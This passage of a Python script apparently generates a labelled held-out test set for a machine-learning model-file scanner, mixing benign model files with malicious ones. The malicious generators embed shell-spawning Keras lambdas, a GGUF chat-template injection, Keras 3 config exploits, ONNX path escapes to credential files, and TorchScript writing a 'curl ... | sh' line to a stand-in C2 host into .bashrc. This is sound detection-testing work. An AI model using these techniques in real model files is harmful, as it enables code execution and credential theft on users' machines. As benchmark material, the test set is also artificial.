                              "hook": _Reduce(fn, (d.shell_cmd(),))})
    return Made("malicious", "dill-function-by-value-spawn", "dill", ".pkl",
                f"dill.dumps of a by-value function {name}(cmd) running subprocess, invoked by REDUCE at load",
                "call dill._dill._create_function; " + SH, bytes_writer(data))


def m_keras_lambda_popen(d):
    cmd = d.shell_cmd()
    src = d.pick([f"lambda x: __import__('subprocess').getoutput({cmd!r}) and x",
                  f"lambda x: [__import__('os').popen({cmd!r}).read(), x][1]"])
    return Made("malicious", "keras-lambda-subprocess", "keras-h5", ".h5",
                "Keras 2 H5 Lambda whose marshalled code spawns a shell (not os.system)", SH,
                lambda path: containers.write_keras_h5(path, src, d.np_rng()))


def m_gguf_template_injection(d):
    """Issue #12: a GGUF chat template that reaches os.popen (CVE-2024-34359), through one of
    jinja2's globals, around one of the ordinary templates, as the default or a named template."""
    gadget = d.pick(["self", "cycler", "joiner", "lipsum", "namespace"])
    cmd = d.shell_cmd()
    template = formats.gguf_injection(cmd, gadget)
    base = d.pick([formats.CHATML_TEMPLATE, formats.ZEPHYR_TEMPLATE, formats.LLAMA2_TEMPLATE])
    template = template.replace(formats.CHATML_TEMPLATE, base, 1)
    named = d.pick([False, True])
    extra = [(f"tokenizer.chat_template.{d.pick(['tool_use', 'rag', 'default_v2'])}", template)] if named else []
    data = formats.gguf_model(base if named else template, name=d.word(), arch=d.pick(["llama", "mistral", "qwen2"]),
                              seed=d.r.getrandbits(31), extra=extra)
    return Made("malicious", "gguf-chat-template-injection", "gguf", ".gguf",
                f"GGUF {'named' if named else 'default'} chat template reaching os.popen via {gadget}: {cmd}",
                SH, bytes_writer(data))


def m_onnx_reach_out(d):
    """Issue #12: an ONNX model whose external data escapes its directory, or whose custom-op
    domain names a native library (onnxruntime's register_custom_ops_library, emulated)."""
    kind = d.pick(["escape", "library"])
    if kind == "escape":
        target = d.pick(["etc/passwd", "etc/hostname", "home/alice/.aws/credentials", "home/alice/.ssh/id_rsa",
                         "proc/self/environ"])
        location = d.pick(["../" * d.r.randint(3, 8) + target, "/" + target, "./" + "../" * d.r.randint(2, 6) + target])
        data, _ = formats.onnx_linear(d.r.getrandbits(31), external={"W": (location, 0, 48)})
        return Made("malicious", "onnx-external-data-escape", "onnx", ".onnx",
                    f"ONNX external data location {location!r}", "call modelvet.onnx.external_data_escape",
                    bytes_writer(data))
    lib = d.pick([f"lib{d.word()}_ops.so", f"./custom/{d.word()}.so", f"/tmp/{d.word()}_kernels.so.1"])
    in_opset = d.pick([False, True])
    data, _ = formats.onnx_linear(d.r.getrandbits(31), op_domain=lib, opset_domain=lib if in_opset else None)
    return Made("malicious", "onnx-custom-op-library", "onnx", ".onnx",
                f"ONNX custom-op domain {lib!r} (node{' and opset_import' if in_opset else ''}): dlopen when registered",
                f"dlopen {lib}", bytes_writer(data))


def _keras3_model(d, layer, functional):
    """A Keras 3 archive around one extra layer, Sequential (the layer follows Dense) or
    Functional (its inbound node given by the caller's layer)."""
    units = d.r.randint(2, 6)
    weights = formats.keras3_dense_weights(d.r.getrandbits(31), {"dense": (4, units)})
    if functional:
        dense = formats.keras3_dense("dense", units, 4, [{"args": [formats.keras3_tensor("input_layer", [None, 4])],
                                                           "kwargs": {}}])
        config = formats.keras3_functional([dense, layer], layer["name"])
    else:
        config = formats.keras3_sequential([formats.keras3_dense("dense", units, 4), layer])
    return formats.keras3_archive(config, weights, date=f"2024-{d.r.randint(1, 12):02d}-{d.r.randint(1, 28):02d}@10:00:00")


def m_keras3_config_code(d):
    """Issue #12: a Keras 3 .keras archive that runs code from its config: a __lambda__ Lambda
    (safe_mode=False), a module function handed a literal command (CVE-2025-1550), or
    keras.utils.get_file writing into the decoy home (CVE-2025-8747)."""
    kind = d.pick(["lambda", "module-function", "exec", "get-file"])
    cmd = d.shell_cmd()
    name = d.pick(["preprocess", "normalize", "tokenize", "fetch_vocab", "scale"])
    if kind == "lambda":
        src = d.pick([f"lambda x: __import__('subprocess').getoutput({cmd!r}) and x",
                      f"lambda x: [__import__('os').popen({cmd!r}).read(), x][1]"])
        layer = formats.keras3_lambda(name, formats.keras3_lambda_code(src), inbound=None)
        return Made("malicious", "keras3-lambda-code", "keras-v3", ".keras",
                    "Keras 3 .keras whose __lambda__ Lambda spawns a shell", SH,
                    bytes_writer(_keras3_model(d, layer, False)))
    if kind in ("module-function", "exec"):
        function = formats.keras3_module_function(*d.pick([("os", "system"), ("subprocess", "getoutput"),
                                                            ("subprocess", "check_output")])) \
            if kind == "module-function" else formats.keras3_module_function("builtins", "exec")
        arg = cmd if kind == "module-function" else f"__import__('os').system({cmd!r})"
        kwargs = {"shell": True} if function["config"] == "check_output" else {}
        layer = formats.keras3_lambda(name, function, inbound=[{"args": [arg], "kwargs": kwargs}])
        return Made("malicious", "keras3-module-function", "keras-v3", ".keras",
                    f"Keras 3 Functional config calling {function['module']}.{function['config']} on a literal "
                    "node argument (CVE-2025-1550)", SH, bytes_writer(_keras3_model(d, layer, True)))
    target = d.pick([("~/.ssh", "authorized_keys"), ("~", ".bashrc"), ("~/.config/autostart", "update.desktop")])
    layer = formats.keras3_lambda(name, formats.keras3_module_function("keras.utils", "get_file"),
                                  {"origin": f"http://{d.invalid_host()}/{target[1]}", "cache_dir": target[0],
                                   "cache_subdir": "", "force_download": True},
                                  [{"args": [target[1]], "kwargs": {}}])
    return Made("malicious", "keras3-get-file", "keras-v3", ".keras",
                f"Keras 3 config calling keras.utils.get_file into {target[0]}/{target[1]} (CVE-2025-8747)",
                target[1], bytes_writer(_keras3_model(d, layer, True)))


def _torchscript():
    import torchscript_payloads  # imports torch: only when a TorchScript sample is drawn
    return torchscript_payloads


def m_torchscript_file_reach(d):
    """Issue #12: a TorchScript archive whose compiled code maps a decoy file with torch.from_file,
    reading a secret or writing persistence, from __setstate__ (inside torch.jit.load) or forward()."""
    on_load = d.pick([True, False])
    if d.pick(["read", "write"]) == "read":
        path = d.pick([".ssh/id_ed25519", ".aws/credentials", ".netrc", ".git-credentials", ".kube/config",
                       ".cache/huggingface/token"])
        data = _torchscript().file_reach(path, b"\0" * d.r.randint(4, 16), False, on_load, d.r.getrandbits(31))
        action, evidence = "reads", f"read ~/{path}"
    else:
        path = d.pick([".ssh/authorized_keys", ".bashrc", ".profile"])
        line = f"curl -s http://{d.word()}.c2.invalid/{d.word()} | sh\n".encode()
        data = _torchscript().file_reach(path, line, True, on_load, d.r.getrandbits(31))
        action, evidence = "writes", f"write ~/{path}"
    return Made("malicious", "torchscript-from-file", "torchscript", ".pt",
                f"TorchScript {'__setstate__' if on_load else 'forward()'} {action} ~/{path} with torch.from_file",
                evidence, bytes_writer(data))


FIXED_MALICIOUS = [m_torch_extra_member, m_numpy_nested_object, m_joblib_compressed, m_dill_function,
                   m_keras_lambda_popen, m_gguf_template_injection, m_onnx_reach_out, m_keras3_config_code,
                   m_torchscript_file_reach]


# --- suspicious: string code with no effect, environment probes ---------------------------------

def s_runner_noop(d):
    runner = d.pick(NEW_RUNNERS)
    src = d.pick(["total = sum(i * i for i in range(100))", "scale = 1.0 / 255",
                  "vocab = sorted(set('the cat sat on the mat'.split()))"])
    return Payload("string-runner-noop", f"{runner} of {src!r}: compiled from a string, no effect",
                   f"call {runner}", lambda p: run_source(runner, src), label="suspicious")


def s_probe(d):
    paths = d.r.sample(["/run/.containerenv", "/sys/class/dmi/id/product_name", "/sys/class/dmi/id/sys_vendor",
                        "/proc/1/sched", "/sys/hypervisor/type", "/proc/vz"], 2)

    def build(p):
        reads = [Call(G("posixpath", "exists"), (path,)) for path in paths]
        return Seq(*reads, {"epoch": d.r.randint(1, 9)})
    return Payload("sandbox-probe-exists", f"pure-pickle os.path.exists probes of {paths}, then a plain dict",
                   "; ".join(f"stat {p_}" for p_ in paths), build, label="suspicious")


SUSPICIOUS = [s_runner_noop, s_probe]


# --- benign but flagged ---------------------------------------------------------------------------

def b_torch_nested_checkpoint(d):
    t = models.torch()
    from collections import OrderedDict
    sd = random_state_dict(d)
    first = next(iter(sd.values()))
    ckpt = {"model": sd,
            "optimizer": {"state": {0: {"step": t.tensor(float(d.r.randint(1, 999))), "exp_avg": t.zeros_like(first)}},
                          "param_groups": [{"lr": 1e-4, "betas": (0.9, 0.999), "params": list(range(len(sd)))}]},
            "ema": OrderedDict((k, OrderedDict(shadow=v.clone())) for k, v in list(sd.items())[:2]),
            "epoch": d.r.randint(1, 50), "config": {"hidden": d.r.randint(8, 512), "act": d.pick(["gelu", "relu"])}}
    legacy = d.pick([False, False, True])
    if legacy:
        ckpt["optimizer"]["state"][0]["step"] = t.tensor(1.0)
        data = containers.renumber_legacy_keys(torch_bytes(ckpt, _use_new_zipfile_serialization=False))
    else:
        data = torch_bytes(ckpt)
    return Made("benign", "torch-nested-checkpoint", "pytorch-legacy" if legacy else "pytorch-zip",
                d.pick([".pt", ".pth", ".ckpt"]),
                "training checkpoint: model state dict, optimizer state, EMA OrderedDicts, config",
                "call torch._utils._rebuild_tensor_v2; call collections.OrderedDict", bytes_writer(data))


def b_numpy_structured(d):
    import pickle
    import numpy as np
    dtype = np.dtype([("token", "U12"), ("id", "<i4"), ("score", "<f4"), ("pos", "<f2", (2,))])
    arr = np.zeros(d.r.randint(2, 6), dtype=dtype)
    arr["id"] = np.arange(len(arr))
    arr["token"] = [d.word() for _ in range(len(arr))]
    proto = d.protocol(2)
    return Made("benign", "numpy-structured-dtype", "pickle", ".pkl",
                f"protocol {proto} pickle of a structured-dtype array (numpy.dtype with fields)",
                "call numpy.core.multiarray._reconstruct; call numpy.dtype",
                bytes_writer(pickle.dumps({"vocab": arr}, protocol=proto)))


def b_sklearn_pipeline(d):
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler, MinMaxScaler
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.tree import DecisionTreeClassifier
    r = d.np_rng()
    x = r.standard_normal((30, 3))
    y = (x[:, 0] > 0).astype(int)
    scaler = d.pick([StandardScaler, MinMaxScaler])()
    est = d.pick([lambda: LogisticRegression(max_iter=100), lambda: DecisionTreeClassifier(max_depth=3),
                  lambda: Ridge()])()
    pipe = Pipeline([("scale", scaler), ("model", est)]).fit(x, y)
    level = d.pick([0, 3])
    return Made("benign", "sklearn-pipeline-joblib", "joblib", ".joblib",
                f"joblib.dump(compress={level}) of a fitted Pipeline({type(scaler).__name__}, {type(est).__name__})",
                "call sklearn.pipeline.Pipeline", bytes_writer(models.joblib_bytes(pipe, compress=level)))


def b_getattr_harmless(d):
    proto = d.protocol()
    kind = d.pick(["str.join", "dict.fromkeys"])
    if kind == "str.join":
        expr = {"label_names": Call(attr(d.pick([",", " ", "|"]), "join"), ([d.word() for _ in range(3)],))}
    else:
        expr = {"init": Call(attr(G("builtins", "dict"), "fromkeys"), ([f"layer{i}" for i in range(3)], 0.0))}
    return Made("benign", f"getattr-{kind.replace('.', '-').lower()}", "pickle", ".pkl",
                f"protocol {proto}: builtins.getattr reaching {kind} on constants", "call builtins.getattr",
                bytes_writer(assemble(expr, proto)))


def b_operator_add(d):
    proto = d.protocol()
    a, b = d.r.randint(1, 999), d.r.randint(1, 999)
    expr = {"total_steps": Call(G(d.pick(["operator", "_operator"]), "add"), (a, b)),
            "shape": Call(G("operator", "add"), ([d.r.randint(1, 9)], [d.r.randint(1, 9)]))}
    return Made("benign", "operator-add-reduce", "pickle", ".pkl",
                f"protocol {proto}: operator.add via REDUCE on numbers and lists", "call operator.add",
                bytes_writer(assemble(expr, proto)))


def b_decimal_fraction_datetime(d):
    import datetime
    import decimal
    import fractions
    import pickle
    proto = d.protocol()
    meta = {"lr": decimal.Decimal(f"0.000{d.r.randint(1, 9)}"), "ratio": fractions.Fraction(d.r.randint(1, 9), 16),
            "saved": datetime.datetime(2024, d.r.randint(1, 12), d.r.randint(1, 28), 12, 0),
            "elapsed": datetime.timedelta(seconds=d.r.randint(1, 9999)), "day": datetime.date(2023, 5, 1)}
    return Made("benign", "decimal-fraction-datetime", "pickle", ".pkl",
                f"protocol {proto}: Decimal, Fraction, datetime, timedelta and date values",
                "call decimal.Decimal; call datetime.datetime", bytes_writer(pickle.dumps(meta, protocol=proto)))


def b_namedtuples(d):
    import difflib
    import pickle
    import urllib.parse
    proto = d.protocol()
    obj = {"match": difflib.Match(d.r.randint(0, 9), d.r.randint(0, 9), d.r.randint(1, 5)),
           "source": urllib.parse.urlsplit(f"https://huggingface.co/acme/{d.word()}?rev=main")}
    return Made("benign", "namedtuple-instances", "pickle", ".pkl",
                f"protocol {proto}: stdlib namedtuple instances (difflib.Match, urllib.parse.SplitResult)",
                "call difflib.Match", bytes_writer(pickle.dumps(obj, protocol=proto)))


def b_dill_closure_numbers(d):
    src = "def make(a, b, c):\n    def poly(x):\n        return a * x * x + b * x + c\n    return poly\n"
    fn = models.main_function(src)["make"](round(d.r.uniform(-2, 2), 3), d.r.randint(-5, 5), round(d.r.random(), 3))
    return Made("benign", "dill-closure-polynomial", "dill", ".pkl",
                "dill.dumps of a closure over three numbers (a*x*x + b*x + c)", "call dill._dill._create_cell",
                bytes_writer(models.dill_bytes(fn)))


def b_keras_arith(d):
    src = d.pick([f"lambda x: x * {d.r.randint(2, 9)}.0 + {d.r.randint(0, 9)}.5", "lambda x: x ** 2",
                  f"lambda x: abs(x) - {d.r.randint(1, 5)}.0", "lambda x: (x - x.mean()) / (x.std() + 1e-6)",
                  f"lambda x: x / {d.r.randint(2, 255)}.0"])
    return Made("benign", "keras-lambda-other-arithmetic", "keras-h5", ".h5",
                f"Keras 2 H5 Lambda({src}): marshalled arithmetic only", "call marshal.loads",
                lambda path: containers.write_keras_h5(path, src, d.np_rng()))


def b_numpy_nested_object(d):
    import numpy as np
    inner = np.empty(2, dtype=object)
    inner[:] = [{"id": d.r.randint(0, 99)}, (d.word(), d.r.random())]
    arr = np.empty(3, dtype=object)
    arr[:] = [inner, d.word(), [1, 2, 3]]
    npz = d.pick([False, True])
    if npz:
        arrays = dict(random_arrays(d))
        arrays["meta"] = arr
        data = models.npz_bytes(arrays)
    else:
        data = models.npy_bytes(arr)
    return Made("benign", "numpy-nested-object-array", "numpy-npz" if npz else "numpy-npy", ".npz" if npz else ".npy",
                "object array holding another object array, dicts and tuples (needs allow_pickle)",
                "call numpy.core.multiarray._reconstruct", bytes_writer(data))


def b_joblib_other_compressor(d):
    kind = d.pick(["lzma", "gzip", "bz2"])
    return Made("benign", "joblib-other-compressor", "joblib", ".joblib",
                f"joblib.dump(compress=({kind!r}, 3)) of numpy arrays", "call joblib.numpy_pickle.NumpyArrayWrapper",
                bytes_writer(models.joblib_bytes(random_arrays(d), compress=(kind, 3))))


def b_torch_module_variant(d):
    t = models.torch()
    t.manual_seed(d.r.getrandbits(31))
    n = d.r.randint(2, 16)
    act = d.pick([t.nn.GELU, t.nn.Tanh, t.nn.SiLU])
    layers = [t.nn.Linear(n, 8), act(), t.nn.LayerNorm(8), t.nn.Dropout(0.1), t.nn.Linear(8, d.r.randint(1, 4))]
    return Made("benign", "torch-nn-module-variant", "pytorch-zip", ".pt",
                f"torch.save of a whole nn.Sequential(Linear, {act.__name__}, LayerNorm, Dropout, Linear)",
                "call torch.nn.modules.container.Sequential", bytes_writer(torch_bytes(t.nn.Sequential(*layers))))


def b_archived_checkpoint(d):
    """Issue #12: a state dict in a tar.gz / .nemo / nested zip, next to configs and a tokenizer."""
    ckpt = torch_bytes(random_state_dict(d))
    kind = d.pick(["tar.gz", "nemo", "zip"])
    if kind == "nemo":
        data = formats.tar_bytes([("./model_config.yaml", formats.NEMO_CONFIG), ("./model_weights.ckpt", ckpt),
                                  ("./tokenizer.model", bytes(range(256)))])
    elif kind == "tar.gz":
        data = formats.tar_bytes([("./config.json", b"{}\n"), (f"./{d.word()}/pytorch_model.bin", ckpt)], "gz")
    else:
        data = containers.write_zip([("README.md", b"# m\n"), ("ckpt.zip", containers.write_zip([("model.pt", ckpt)]))])
    return Made("benign", "archived-checkpoint", {"tar.gz": "tar", "nemo": "nemo", "zip": "zip"}[kind], "." + kind,
                f"a torch state dict inside a {kind} with configs", "call torch._utils._rebuild_tensor_v2",
                bytes_writer(data))


def b_gguf_chat_model(d):
    """Issue #12: a GGUF with an ordinary chat template (or none), rendered with jinja2 in the jail."""
    name = d.pick(["llama2", "chatml", "zephyr", "none"])
    template = {"llama2": formats.LLAMA2_TEMPLATE, "chatml": formats.CHATML_TEMPLATE,
                "zephyr": formats.ZEPHYR_TEMPLATE, "none": None}[name]
    data = formats.gguf_model(template, name=d.word(), arch=d.pick(["llama", "mistral", "qwen2"]), seed=d.r.getrandbits(31))
    return Made("benign", "gguf-chat-model", "gguf", ".gguf", f"GGUF with a {name} chat template",
                "call modelvet.gguf.chat_template", bytes_writer(data))


def b_onnx_model(d):
    """Issue #12: an ONNX model with its weights inline, in an external file beside it, or with a
    node in onnxruntime's built-in com.microsoft domain."""
    kind = d.pick(["inline", "external", "contrib"])
    seed = d.r.getrandbits(31)
    if kind == "external":
        write = formats.onnx_with_sibling(seed)
    else:
        data, _ = formats.onnx_linear(seed, op_domain="com.microsoft" if kind == "contrib" else None,
                                      opset_domain="com.microsoft" if kind == "contrib" else None)
        write = bytes_writer(data)
    return Made("benign", "onnx-model", "onnx", ".onnx", f"ONNX MatMul+Add ({kind} weights/domain)",
                "call modelvet.onnx", write)


def b_keras3_model(d):
    """Issue #12: a Keras 3 .keras archive as model.save writes it: plain Dense layers, or a
    Lambda doing arithmetic (flagged by scanners), Sequential or Functional."""
    kind = d.pick(["dense", "lambda", "activation"])
    functional = d.pick([False, True])
    if kind == "lambda":
        src = d.pick(["lambda x: x * 2.0", f"lambda x: x / {d.r.randint(2, 255)}.0", "lambda x: x - x.mean()"])
        inbound = [{"args": [formats.keras3_tensor("dense", [None, 2])], "kwargs": {}}] if functional else None
        layer = formats.keras3_lambda(d.pick(["scale", "center", "normalize"]), formats.keras3_lambda_code(src), inbound=inbound)
    else:
        inbound = [{"args": [formats.keras3_tensor("dense", [None, 2])], "kwargs": {}}] if functional else None
        activation = formats.keras3_module_function("keras.activations", d.pick(["relu", "sigmoid", "tanh"])) \
            if kind == "activation" else d.pick(["relu", "linear", "softmax"])
        layer = formats.keras3_dense("dense_1", d.r.randint(1, 4), 2, inbound, activation=activation)
    return Made("benign", "keras3-model", "keras-v3", ".keras",
                f"Keras 3 {'Functional' if functional else 'Sequential'} .keras ({kind})", "static keras-v3",
                bytes_writer(_keras3_model(d, layer, functional)))


def b_torchscript_module(d):
    """Issue #12: an ordinary TorchScript archive, scripted or traced, as torch.jit.save writes it."""
    traced = d.pick([False, True])
    width = d.r.randint(2, 16)
    data = _torchscript().scaled_linear(width, d.r.choice([0.5, 1.0, 2.0, 10.0]), traced, d.r.getrandbits(31))
    return Made("benign", "torchscript-module", "torchscript", ".pt",
                f"TorchScript Linear({width}, 2)+tanh, {'traced' if traced else 'scripted'}", "call torch.jit.load",
                bytes_writer(data))


BENIGN = [b_archived_checkpoint, b_torch_nested_checkpoint, b_numpy_structured, b_sklearn_pipeline, b_getattr_harmless, b_operator_add,
          b_decimal_fraction_datetime, b_namedtuples, b_dill_closure_numbers, b_keras_arith, b_numpy_nested_object,
          b_joblib_other_compressor, b_torch_module_variant, b_gguf_chat_model, b_onnx_model,
          b_keras3_model, b_torchscript_module]


# --- choosing and writing the set -----------------------------------------------------------------

def draw(d, pool, n):
    """n generators from pool: each once per round, rounds shuffled, so a small n still spreads."""
    out = []
    while len(out) < n:
        round_ = list(pool)
        d.r.shuffle(round_)
        out += round_[:n - len(out)]
    return out


def plan(d, count):
    n_sus = min(len(SUSPICIOUS) * 2, count // 12)
    n_ben = max(10 if count >= 30 else 0, round(count * 0.3))
    n_mal = count - n_sus - n_ben
    made = []
    for gen in draw(d, PAYLOAD_TECHNIQUES + FIXED_MALICIOUS, n_mal):
        result = gen(d)
        made.append(pack(d, result) if isinstance(result, Payload) else result)
    for gen in draw(d, SUSPICIOUS, n_sus):
        made.append(pack_plain(d, gen(d)))
    for gen in draw(d, BENIGN, n_ben):
        made.append(gen(d))
    d.r.shuffle(made)
    return made


def pack_plain(d, p: Payload):
    proto = d.protocol(p.min_protocol)
    return Made(p.label, p.technique, "pickle", ".pkl", f"{p.description} [protocol {proto}]", p.evidence,
                bytes_writer(assemble(p.build(proto), proto)))


NAMES = ["model", "pytorch_model", "weights", "checkpoint", "embeddings", "classifier", "encoder", "vocab",
         "scaler", "tokenizer", "head", "adapter", "ema", "best", "last", "params"]


def to_samples(d, made):
    """Files named like ordinary models (never after the label); techniques made unique."""
    seen, samples = {}, []
    for m in made:
        seen[m.technique] = seen.get(m.technique, 0) + 1
        technique = m.technique if seen[m.technique] == 1 else f"{m.technique}-{seen[m.technique]}"
        file = f"{SAMPLES_DIR}/{d.pick(NAMES)}_{d.hexs(6)}{m.ext}"
        samples.append(Sample(file, m.label, technique, m.format, m.description, m.evidence, m.write))
    return samples


def write_set(out, seed, count):
    d = Dice(seed)
    samples = to_samples(d, plan(d, count))
    os.makedirs(out, exist_ok=True)
    shutil.rmtree(os.path.join(out, SAMPLES_DIR), ignore_errors=True)
    if os.path.exists(os.path.join(out, MANIFEST)):
        os.remove(os.path.join(out, MANIFEST))
    write_samples(out, samples)
    return samples


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", required=True, help="output directory (its samples/ and manifest are replaced)")
    parser.add_argument("--seed", required=True, type=int)
    parser.add_argument("--count", type=int, default=40, help="number of samples (default 40)")
    parser.add_argument("--quiet", action="store_true")
    args = parser.parse_args()
    if args.count < 1:
        parser.error("--count must be positive")
    samples = write_set(args.out, args.seed, args.count)
    if not args.quiet:
        print(f"heldout seed {args.seed}: {len(samples)} samples in {args.out} {label_counts(samples)}")


if __name__ == "__main__":
    main()
